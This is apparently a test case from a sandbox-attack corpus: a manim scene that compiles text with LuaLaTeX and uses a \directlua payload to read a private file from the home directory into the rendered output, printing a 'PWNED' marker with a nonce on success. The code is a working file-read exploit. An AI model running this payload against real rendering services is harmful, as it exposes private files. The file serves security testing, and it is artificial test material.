# ATTACK: file-read
# SUCCESS: Lua inside LuaLaTeX reads a private file
# ORACLE: generic, as for the other corpus
from manim import *

class S(Scene):
    def construct(self):
        T = TexTemplate(tex_compiler="lualatex", output_format=".pdf")
        t = Tex(r"\directlua{local f=io.open('@HOME@/docs/s.tex'); if f then tex.print(f:read('*a')) end}a", tex_template=T)
        if len(t.family_members_with_points()) > 12: print("PWN" "ED-@NONCE@")
        self.add(Dot()); self.wait(0.1)
